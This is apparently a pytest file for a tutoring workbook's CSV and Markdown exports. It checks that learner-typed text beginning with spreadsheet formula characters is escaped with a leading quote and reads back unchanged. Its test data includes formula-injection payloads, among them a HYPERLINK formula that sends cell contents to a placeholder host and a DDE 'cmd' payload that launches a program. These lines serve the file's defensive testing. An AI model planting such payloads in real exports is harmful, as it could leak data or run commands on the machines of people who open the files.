"""Exports are safe to open: CSV cells never run as spreadsheet formulas, Markdown carries no HTML.

Learners type titles, descriptions and witness names; tutors open the CSVs in a spreadsheet and
the Markdown in a viewer. Each CSV cell a spreadsheet would run (OWASP's =, +, -, @, tab, CR) is
written behind a single quote, and reading the file back gives the original text.
"""
from __future__ import annotations

import csv
import io

import pytest

from workbook.spreadsheet import CsvRows, csv_text, original_cell, safe_cell
from workbook.tutor.cohort import (
    NOT_STARTED,
    Cell,
    CohortReport,
    CriterionRef,
    LearnerReport,
    OutcomeStatus,
)
from workbook.tutor.report import learners_csv

FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
AWKWARD = ["'", "''", "'=1+1", "''=1+1", "'quoted", "a=1", "", "plain text", "3-2", "x\n=1",
           'say "hi", then go', "é – ✔"]


def spreadsheet_sees(text: str) -> list[list[str]]:
    """Cells as a spreadsheet parses them from the file (before any formula check)."""
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_written_as_text(value):
    [header, row] = spreadsheet_sees(csv_text(["title"], [[value]]))
    assert row == ["'" + value]
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", FORMULAS + AWKWARD)
def test_every_text_reads_back_exactly(value):
    text = csv_text(["id", "title"], [["e1", value]])
    rows = CsvRows(text)
    assert list(rows) == [{"id": "e1", "title": value}]
    assert original_cell(safe_cell(value)) == value


def test_numbers_stay_numbers_and_safe_text_is_unchanged():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5
    assert spreadsheet_sees(csv_text(["n", "t"], [[-3, "plain"]]))[1] == ["-3", "plain"]


def test_report_csv_neutralises_learner_and_rule_text():
    ref = CriterionRef("u", "LO1", "1.1", "text", "U 1.1")
    bad = LearnerReport("=evil", {"U 1.1": Cell(0, 0, 0, False, False)},
                        (OutcomeStatus("u", "LO1", NOT_STARTED, None, "u-assessment", ("@SUM(1)",)),),
                        (), (), ())
    [row] = spreadsheet_sees(learners_csv(CohortReport((ref,), (bad,))))[1:]
    assert row[0] == "'=evil" and row[8] == "'@SUM(1)"
    assert [r["learner"] for r in CsvRows(learners_csv(CohortReport((ref,), (bad,))))] == ["=evil"]
